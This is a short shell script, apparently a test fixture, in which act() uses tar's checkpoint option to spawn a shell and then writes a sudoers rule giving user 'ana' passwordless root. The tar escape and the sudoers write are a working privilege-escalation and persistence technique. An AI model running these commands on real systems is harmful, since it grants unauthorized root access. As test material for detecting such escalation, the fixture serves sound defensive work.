# tar is told to start a shell (a harmless program), then a shell writes a rule of sudo.
prepare() {
    stand_in tar
    mkdir -p /etc/sudoers.d
}
act() {
    tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh
    echo 'ana ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/zz-ana
}
